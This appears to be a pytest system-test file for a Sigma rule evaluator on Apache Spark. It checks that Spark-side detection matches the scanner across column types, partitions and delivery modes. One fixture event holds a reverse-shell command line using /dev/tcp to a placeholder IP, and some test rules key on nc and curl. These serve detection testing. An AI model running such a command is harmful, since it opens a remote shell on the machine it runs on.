"""``detect`` on a real Spark: the matches of ``scan``, whatever the delivery, the partitions and the types of columns."""

from __future__ import annotations

import gzip
import json
import os
import random
import re
import shutil
import subprocess
import sys
from collections import Counter
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from sigma.pyeval import Ruleset, load_rules, parse_rules
from sigma.pyeval.scanning import Scan

from ..conftest import ROOT, rule_yaml
from .spark_session import WORKERS, modules_of, require_spark

if TYPE_CHECKING:
    from pyspark.sql import DataFrame, SparkSession

pytestmark = [pytest.mark.system, pytest.mark.filterwarnings("default")]  # pyspark's own warnings are not ours


def matches(df: DataFrame, ruleset: Ruleset, delivery: str, **options: Any) -> Counter[tuple[Any, ...]]:
    """Return (n, rule's title, rule's id) of each match, ``n`` being a column of *df*."""
    from sigma.pyeval.spark import detect

    found = detect(df, ruleset, keep=["n"], delivery=delivery, **options)  # type: ignore[arg-type]
    return Counter((row.n, row.rule.title, row.rule.id) for row in found.collect())


RULES = parse_rules(
    "---\n".join(
        [
            rule_yaml("s: {Image|endswith: /sh, Arguments|contains: '-c'}\ncondition: s", "list"),
            rule_yaml("s: {Process.Parent.Name: init}\ncondition: s", "nested struct"),
            rule_yaml("s: {Labels.k8s: prod}\ncondition: s", "map"),
            rule_yaml("s: {Children.Name: nc}\ncondition: s", "array of structs"),
            rule_yaml("s: {Amount|gte: 10, Amount: 12}\ncondition: s", "decimal"),
            rule_yaml("s: {Ratio: 0.5}\ncondition: s", "double"),
            rule_yaml("s: {Seen|startswith: '2026-01-01T23:30:00+00:00'}\ncondition: s", "timestamp"),
            rule_yaml("s: {Seen|hour: 23}\ncondition: s", "hour in UTC"),
            rule_yaml("s: {Local: '2026-01-02T08:30:00'}\ncondition: s", "timestamp without zone"),
            rule_yaml("s: {Day: '2026-01-02'}\ncondition: s", "date"),
            rule_yaml("s: {Raw|contains: curl}\ncondition: s", "binary"),
            rule_yaml("s: {Flag: true}\ncondition: s", "boolean"),
            rule_yaml("s: {Image: null}\ncondition: s", "a null"),
            rule_yaml("s: {Ratio|exists: false}\ncondition: s", "missing"),
            rule_yaml("k: [needle]\ncondition: k", "keyword"),
            rule_yaml("s: {'a.b': x}\ncondition: s", "a dot in a name"),
            rule_yaml("s: {Nothing: null, n|gt: 0}\ncondition: s", "void"),
        ]
    )
)
CORRELATED = parse_rules(
    "---\n".join(
        [
            rule_yaml("s: {Image|endswith: /sh}\ncondition: s", "Shell", extra="name: shell\n"),
            rule_yaml("s: {Image|endswith: sh}\ncondition: s", "Other"),
            "title: Two shells\ncorrelation:\n  type: event_count\n  rules: [shell]\n  group-by: [user]\n  timespan: 1m\n  condition: {gte: 2}\n",
        ]
    )
)  # fmt: skip
TYPED = """
    SELECT 1 AS n, '/bin/sh' AS Image, array('-C x', null) AS Arguments, null AS Nothing, X'4355524c20ff' AS Raw, 'x' AS `a.b`,
        named_struct('Parent', named_struct('Name', 'INIT', 'Pid', 1)) AS Process, map('k8s', 'prod', 'z', null) AS Labels,
        array(named_struct('Name', 'sh', 'Args', array('a')), named_struct('Name', 'nc', 'Args', array('NEEDLES'))) AS Children,
        CAST(12 AS decimal(12, 3)) AS Amount, CAST(0.5 AS double) AS Ratio, true AS Flag,
        timestamp'2026-01-02 08:30:00' AS Seen, timestamp_ntz'2026-01-02 08:30:00' AS Local, date'2026-01-02' AS Day
    UNION ALL
    SELECT 2, null, null, null, null, null, null, null, null, null, CAST('NaN' AS double), null, null, null, null
    UNION ALL
    SELECT 3, '/bin/bash', array(), null, X'00', 'y', named_struct('Parent', null), map('k8s', 'dev'), array(), 12.5, 0.25, false,
        timestamp'2026-01-02 09:30:00', timestamp_ntz'2026-01-02 09:30:00', date'2026-01-03'
"""


def test_workers_have_only_what_is_promised(session: SparkSession, delivery: str) -> None:
    """Nothing of ours beside a standalone module; the runtime without pySigma beside a linked one."""
    names = "sigma.pyeval sigma.rule sigma.backends.pyeval yaml pyspark"
    if delivery == "standalone":
        names = "sigma yaml pyspark"
    assert modules_of(delivery, names) == (
        set() if delivery == "standalone" else {"sigma.pyeval", "sigma.backends.pyeval"}
    )

    def look(batches: Iterator[Any]) -> Iterator[Any]:
        import sys

        import pyarrow

        yield pyarrow.RecordBatch.from_arrays([pyarrow.array([sys.prefix, *sys.path])], names=["place"])

    seen = {row.place for row in session.range(1).mapInArrow(look, "place string").collect()}
    assert str(WORKERS[delivery]) in seen
    assert not any(Path(place) == ROOT for place in seen)


def test_each_type_of_column(session: SparkSession, delivery: str) -> None:
    """The first row fires every rule but those for what is missing; the others fire what their nulls and values say."""
    found = matches(session.sql(TYPED), RULES, delivery)
    titles = {n: [title for row, title, _ in found if row == n] for n in (1, 2, 3)}
    assert titles[1] == [rule.title for rule in RULES.rules if rule.title not in ("a null", "missing")]
    assert titles[2] == ["a null", "missing", "void"]
    assert titles[3] == ["void"]
    assert set(found.values()) == {1}


def test_large_types_of_arrow(session: SparkSession, delivery: str) -> None:
    """The setting that makes text and binary of Arrow large ones changes nothing."""
    expected = matches(session.sql(TYPED), RULES, delivery)
    session.conf.set("spark.sql.execution.arrow.useLargeVarTypes", "true")
    try:
        assert matches(session.sql(TYPED), RULES, delivery) == expected
    finally:
        session.conf.unset("spark.sql.execution.arrow.useLargeVarTypes")


def test_kept_columns_are_untouched(session: SparkSession, delivery: str) -> None:
    """All of them unless said otherwise, in the order asked for, with their types and values."""
    from sigma.pyeval.spark import detect

    df = session.sql(TYPED)
    ruleset = Ruleset(RULES.rules[:1])
    found = detect(df, ruleset, delivery=delivery)  # type: ignore[arg-type]
    assert found.columns == [*df.columns, "rule"]
    assert found.drop("rule").schema == df.schema
    assert found.drop("rule").collect() == df.where("n = 1").collect()
    some = detect(df, ruleset, keep=["Seen", "a.b"], delivery=delivery).collect()  # type: ignore[arg-type]
    assert [list(row.asDict()) for row in some] == [["Seen", "a.b", "rule"]]


def test_an_event_in_one_column(session: SparkSession, delivery: str) -> None:
    """A struct, a map, JSON text or bytes; what is none comes back with the reason."""
    from sigma.pyeval.spark import detect

    events = ['{"Image": null, "n": 5}', "{", None]
    df = session.createDataFrame([(n, text) for n, text in enumerate(events)], "n int, text string")
    ruleset = Ruleset(rule for rule in RULES.rules if rule.title in ("a null", "void"))
    for column in ("text", "CAST(text AS binary)"):
        found = detect(
            df.selectExpr("n", f"{column} AS e"), ruleset, event="e", keep=["n"], delivery=delivery
        ).collect()  # type: ignore[arg-type]
        assert [(row.n, row.rule and row.rule.title) for row in found] == [
            (0, "a null"),
            (0, "void"),
            (1, None),
            (2, None),
        ]
        assert [row.problem is None for row in found] == [True, True, False, False]
    for column in ("named_struct('n', n)", "map('n', n)"):
        found = detect(df.selectExpr("n", f"{column} AS e"), ruleset, event="e", keep=[], delivery=delivery).collect()  # type: ignore[arg-type]
        assert Counter(row.rule.title for row in found) == {"a null": 3, "void": 2}


def test_rules_that_serve_only_correlations(session: SparkSession, delivery: str) -> None:
    """As in ``match``: left out, or with ``members`` among the others."""
    df = session.sql("SELECT 1 AS n, '/bin/sh' AS Image")
    assert [title for _, title, _ in matches(df, Ruleset(CORRELATED.rules), delivery)] == ["Other"]
    assert [title for _, title, _ in matches(df, CORRELATED, delivery, members=True)] == ["Shell", "Other"]


HARD = """
    SELECT 1 AS n, 'x' AS Image, timestamp_micros(9223372036854775807) AS Seen, date_add(date'9999-12-31', 1) AS Day,
        map(CAST(X'ff' AS string), 'needle') AS Labels, 0.5D AS Ratio
    UNION ALL SELECT 2, CAST(X'ff2f7368' AS string), timestamp'2026-01-01 23:30:00 UTC', date'2026-01-02', map('k8s', 'prod'), 0.5D
    UNION ALL SELECT 3, '/bin/sh', timestamp'9999-12-31 23:59:59', date'0001-01-01', map(), 0.5D
"""


@pytest.mark.parametrize("zone", ["Asia/Tokyo", "America/Los_Angeles"])
def test_what_python_has_no_value_for(session: SparkSession, delivery: str, zone: str) -> None:
    """Moments beyond the calendar and broken text, in a key too: the row and those beside it are judged."""
    session.conf.set("spark.sql.session.timeZone", zone)
    try:
        rows = session.sql(HARD).coalesce(1)
        found = matches(rows, RULES, delivery)
    finally:
        session.conf.set("spark.sql.session.timeZone", "Asia/Tokyo")
    titles = {n: [title for row, title, _ in found if row == n] for n in (1, 2, 3)}
    assert titles[1] == ["double", "keyword", "void"]
    assert titles[2] == ["map", "double", "timestamp", "hour in UTC", "date", "void"]
    assert titles[3] == ["double", "void"]


def test_columns_that_count(session: SparkSession, delivery: str, tmp_path: Path) -> None:
    """Of a file only these are read; what no rule asks may be of any type, and rows without a column are counted."""
    from sigma.pyeval.spark import detect

    rules = parse_rules(rule_yaml("s: {Process.Name: sh, a.b.c: x}\ncondition: s"))
    query = "SELECT named_struct('Name', 'sh') AS Process, 'x' AS `a.b.c`, 'y' AS other, map(1, interval 3 day) AS odd, 1 AS n"
    session.sql(query.replace("map(1, interval 3 day) AS odd, ", "")).write.parquet(str(tmp_path / "events"))
    df = session.read.parquet(str(tmp_path / "events"))
    found = detect(df, rules, keep=["n"], route=False, delivery=delivery)  # type: ignore[arg-type]
    plan = found._jdf.queryExecution().executedPlan().toString()
    assert (
        re.search(r"ReadSchema: struct<(.*)>", plan)[1].replace("...", "")
        in "Process:struct<Name:string>,a.b.c:string,n:int"
    )  # type: ignore[index]
    assert "other" not in plan
    assert [row.n for row in found.collect()] == [1]
    assert sum(matches(session.sql(query), rules, delivery).values()) == 1
    without = parse_rules(rule_yaml("s: {Image: x}\ncondition: not s"))
    assert sum(matches(session.range(5).withColumnRenamed("id", "n"), without, delivery, route=False).values()) == 5


def test_names_that_differ_in_case_only(session: SparkSession, delivery: str) -> None:
    """Spark takes them for one unless told otherwise; as fields they are two."""
    from sigma.pyeval.spark import SparkDetectionError, detect

    rules = parse_rules(
        "---\n".join(rule_yaml(f"s: {{{name}: x}}\ncondition: s", name) for name in ("Image", "image", "IMAGE"))
    )
    session.conf.set("spark.sql.caseSensitive", "false")
    try:
        for place in ("1 AS n, 'x' AS Image, 'x' AS image", "1 AS n, 'x' AS Image, 'x' AS image, 'y' AS `IMAGE`"):
            found = matches(session.sql(f"SELECT {place}"), rules, delivery)
            assert [title for _, title, _ in found] == ["Image", "image"]
        struct = session.sql("SELECT 1 AS n, named_struct('image', 'y', 'IMAGE', 'x') AS e")
        assert [title for _, title, _ in matches(struct, rules, delivery, event="e")] == ["IMAGE"]
        with pytest.raises(SparkDetectionError, match="column 'Rule' is one of the result's"):
            detect(session.sql("SELECT 1 AS Rule"), rules)
    finally:
        session.conf.set("spark.sql.caseSensitive", "true")
    assert [
        row.Rule for row in detect(session.sql("SELECT 'x' AS Image, 1 AS Rule"), rules, delivery=delivery).collect()
    ] == [1]  # type: ignore[arg-type]


def generated(count: int) -> list[dict[str, Any]]:
    """Return events near the rules, the same ones in every run."""
    draw = random.Random(8)
    return [
        {
            "Image": draw.choice(["/bin/sh", "/bin/bash", None]),
            "Arguments": draw.choice([["-c", "x"], ["x"], []]),
            "Process": {"Parent": {"Name": draw.choice(["init", "sshd"])}},
            "Children": [{"Name": draw.choice(["nc", "sh"])} for _ in range(draw.randrange(3))],
            "Flag": draw.random() < 0.5,
            "Text": draw.choice(["a needle in it", "hay"]),
            "Ratio": draw.choice([0.5, 0.25]),
        }
        for _ in range(count)
    ]


@pytest.mark.parametrize("partitions", [1, 7])
def test_generated_events(session: SparkSession, delivery: str, partitions: int) -> None:
    """What ``match`` finds, once each, whatever the partitions; a null column is a missing field."""
    events = generated(3_000)
    expected = Counter(
        (n, match.rule.title, None)
        for n, event in enumerate(events)
        for match in RULES.match({"n": n} | {key: value for key, value in event.items() if value is not None})
    )
    schema = (
        "n int, Image string, Arguments array<string>, Process struct<Parent: struct<Name: string>>, "
        "Children array<struct<Name: string>>, Flag boolean, Text string, Ratio double"
    )
    df = session.createDataFrame([{"n": n} | event for n, event in enumerate(events)], schema).repartition(partitions)
    assert matches(df, RULES, delivery) == expected
    assert len({title for _, title, _ in expected}) > 6


def scanned(ruleset: Ruleset, path: Path) -> Counter[tuple[Any, ...]]:
    """Return what ``scan`` finds in JSON lines."""
    problems: list[object] = []
    scan = Scan(ruleset, lambda path, problem: problems.append(problem), "jsonl")
    found = Counter((one.line - 1, one.match.rule.title, one.match.rule.id) for one in scan.log(str(path)))
    assert not problems
    return found


@pytest.fixture(scope="module")
def windows(shared: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The attack samples as JSON lines."""
    path = tmp_path_factory.mktemp("windows") / "events.jsonl"
    lines = (shared / "windows" / "evtx_attack_samples.jsonl").read_bytes().splitlines()
    path.write_text("".join(json.dumps(json.loads(line)["event"]) + "\n" for line in lines))
    return path


@pytest.fixture(scope="module")
def linux(shared: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The Linux events of the benchmarks."""
    path = tmp_path_factory.mktemp("linux") / "events.jsonl"
    path.write_bytes(gzip.decompress((shared / "bench" / "linux-20k.jsonl.gz").read_bytes()))
    return path


def numbered(session: SparkSession, path: Path) -> DataFrame:
    """Return a row a line, with its number, over five partitions."""
    lines = path.read_text().splitlines()
    return session.createDataFrame(list(enumerate(lines)), "n int, line string").repartition(5)


@pytest.mark.parametrize("lane", ["windows", "linux"])
def test_the_matches_of_scan(
    session: SparkSession,
    delivery: str,
    lane: str,
    request: pytest.FixtureRequest,
    sigmahq: Path,
    figure: Callable[[str], None],
) -> None:
    """Real rules on real events as JSON text: exactly the same rules for the same lines, route and all."""
    path: Path = request.getfixturevalue(lane)
    ruleset = load_rules(sigmahq / "rules" if lane == "windows" else sigmahq / "rules" / "linux")
    expected = scanned(ruleset, path)
    found = matches(numbered(session, path), ruleset, delivery, event="line")
    assert found == expected
    figure(f"spark, {delivery}, {lane}: {sum(found.values())} matches of {len(ruleset)} rules, those of scan")


def test_the_matches_of_scan_in_columns(
    session: SparkSession, delivery: str, windows: Path, sigmahq: Path, figure: Callable[[str], None]
) -> None:
    """The same from a schema that Spark infers, with a column for each of the fields."""
    if delivery == "standalone":
        pytest.skip("the standalone module judges the same events; once is enough")
    from pyspark.sql.functions import from_json

    ruleset = load_rules(sigmahq / "rules")
    df = numbered(session, windows)
    schema = session.read.json(df.rdd.map(lambda row: row.line)).schema
    columns = df.select("n", from_json("line", schema).alias("e"))
    expected = scanned(ruleset, windows)
    found = matches(columns, ruleset, delivery, event="e")
    figure(f"spark, columns: {sum(found.values())} matches; beyond scan {found - expected}, missing {expected - found}")
    assert found == expected


def test_a_module_is_shipped_once(session: SparkSession, delivery: str) -> None:
    """However often the same rules are used in a session; other rules are another module."""
    from sigma.pyeval.spark.driver import _shipped

    df = session.range(1).withColumnRenamed("id", "n")
    matches(df, RULES, delivery)
    names = _shipped[session.sparkContext.applicationId][1]
    before = set(names)
    matches(df, RULES, delivery)
    assert names == before
    matches(df, Ruleset(RULES.rules[:2]), delivery)
    assert len(names) == len(before) + 1


REFUSED = [
    ("SELECT 1 AS a, 2 AS a", {}, "column 'a' is there twice"),
    ("SELECT 1 AS rule", {}, "column 'rule' is one of the result's; rename it, or leave it out of keep"),
    ("SELECT 1 AS problem, '{}' AS e", {"event": "e"}, "column 'problem' is one of the result's"),
    ("SELECT 1 AS a", {"keep": ["b"]}, "there is no column 'b'; there are: 'a'"),
    ("SELECT 1 AS a", {"keep": ["a", "a"]}, "column 'a' is to be kept twice"),
    ("SELECT 1 AS a", {"event": "e"}, "there is no column 'e'"),
    (
        "SELECT 1 AS a",
        {"event": "a", "keep": []},
        "column 'a' is of type int; an event is a struct, a map, or JSON text",
    ),
    ("SELECT parse_json('{}') AS v", {}, "column 'v' is of type variant, which no event has; to_json first"),
    (
        "SELECT array(interval 3 day) AS v",
        {},
        r"column 'v\[\]' is of type interval day, which no event has; cast it to string",
    ),
    ("SELECT named_struct('m', map(1, 'x')) AS v", {}, r"column 'v.m' is a map with keys of type int"),
    ("SELECT named_struct('a', 1, 'a', 2) AS v", {}, "column 'v' is a struct with two fields of one name"),
]


@pytest.mark.parametrize(("query", "options", "message"), REFUSED)
def test_what_cannot_be_is_refused_at_once(
    session: SparkSession, delivery: str, query: str, options: dict[str, Any], message: str
) -> None:
    """Before anything runs, naming the column and the remedy."""
    from sigma.pyeval.spark import SparkDetectionError, detect

    with pytest.raises(SparkDetectionError, match=message):
        detect(session.sql(query), RULES, delivery=delivery, **options)  # type: ignore[arg-type]


def test_rules_that_need_more_are_refused(session: SparkSession) -> None:
    """Correlations, and a router that only this process has."""
    from sigma.pyeval import LogSource
    from sigma.pyeval.spark import SparkDetectionError, detect

    routed = Ruleset(RULES.rules, router=lambda event: LogSource())
    with pytest.raises(SparkDetectionError, match="router is not shipped to workers; pass route=False"):
        detect(session.range(1), routed)
    detect(session.range(1), routed, route=False)
    with pytest.raises(
        SparkDetectionError, match=r"1 correlation rules \(the first is 'Two shells'\) need what came before"
    ):
        detect(session.range(1), CORRELATED)
    with pytest.raises(ValueError, match="delivery is 'standalone' or 'linked', not 'pickled'"):
        detect(session.range(1), RULES, delivery="pickled")  # type: ignore[arg-type]


def test_the_documentation_runs(
    session: SparkSession,
    delivery: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """Every piece of Python in docs/scale.md, one after the other, on the events of the example program."""
    monkeypatch.chdir(tmp_path)
    shutil.copytree(ROOT / "examples" / "rules", "rules")
    event = {"_HOSTNAME": "web-1", "_EXE": "/usr/bin/bash", "_CMDLINE": "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"}
    session.createDataFrame([event]).write.parquet(str(tmp_path / "events"))
    (tmp_path / "incoming").mkdir()
    failures = [
        {
            "_HOSTNAME": "web-1",
            "SYSLOG_IDENTIFIER": "sudo",
            "MESSAGE": "pam_unix(sudo:auth): authentication failure; user=eve",
        }
        | {"__REALTIME_TIMESTAMP": str(1_767_225_600_000_000 + second * 1_000_000)}
        for second in (0, 1, 2, 200)
    ]
    lines = "".join(json.dumps(one) + "\n" for one in (event, *failures))
    (tmp_path / "incoming" / "events.jsonl").write_text(lines)
    code = re.findall(r"```python\n(.*?)```", (ROOT / "docs" / "scale.md").read_text(), re.DOTALL)
    # The JVM's folder is another one, so that relative paths are written out.
    text = re.sub(
        r'"(events|incoming|checkpoint|matches|correlated)/"',
        lambda found: repr(str(tmp_path / found[1])),
        "\n".join(code),
    )
    namespace: dict[str, Any] = {"spark": session}
    exec(compile(text, "scale.md", "exec"), namespace)
    for query in (namespace["query"], namespace["correlating"]):
        query.processAllAvailable()
        query.stop()
    assert capsys.readouterr().out.count("Passwords Tried With Sudo {'_HOSTNAME': 'web-1'}") == 2  # batch, then stream
    [row] = session.read.parquet(str(tmp_path / "matches")).collect()
    assert (row.rule.title, row.problem) == ("Shell Opens A Network Device File", None)


def test_the_example_runs() -> None:
    """As it stands in examples/, its workers without anything of ours but what is shipped to them."""
    require_spark()
    environment = os.environ | {"PYSPARK_PYTHON": str(WORKERS["standalone"] / "bin" / "python")}
    command = [sys.executable, "examples/spark_detect.py"]
    done = subprocess.run(command, cwd=ROOT, env=environment, capture_output=True, text=True, check=True)
    assert done.stdout.splitlines()[-1] == "web-1 high Shell Opens A Network Device File"
